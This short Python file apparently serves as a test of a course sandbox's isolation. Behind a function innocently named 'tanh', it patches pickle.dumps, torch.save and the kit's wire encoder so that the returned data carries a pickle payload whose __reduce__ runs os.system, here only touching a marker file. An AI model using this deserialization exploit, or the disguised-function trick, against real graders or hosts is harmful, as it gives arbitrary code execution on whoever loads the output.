"""Attack: patch pickle, torch.save and the kit's own encoder to send back an object that runs code when loaded."""

import os
import pickle

import torch

import coursekit.sandbox.wire

_real_dumps = pickle.dumps


class Payload:
    marker = ""

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _fake_encode(value):
    return _real_dumps({"ok": {"result": Payload()}})


def tanh(marker):
    Payload.marker = marker
    coursekit.sandbox.wire.encode = _fake_encode
    torch.save = lambda value, file, *args, **kwargs: file.write(_fake_encode(value))
    pickle.dumps = _fake_encode
    return torch.tensor([1.0])
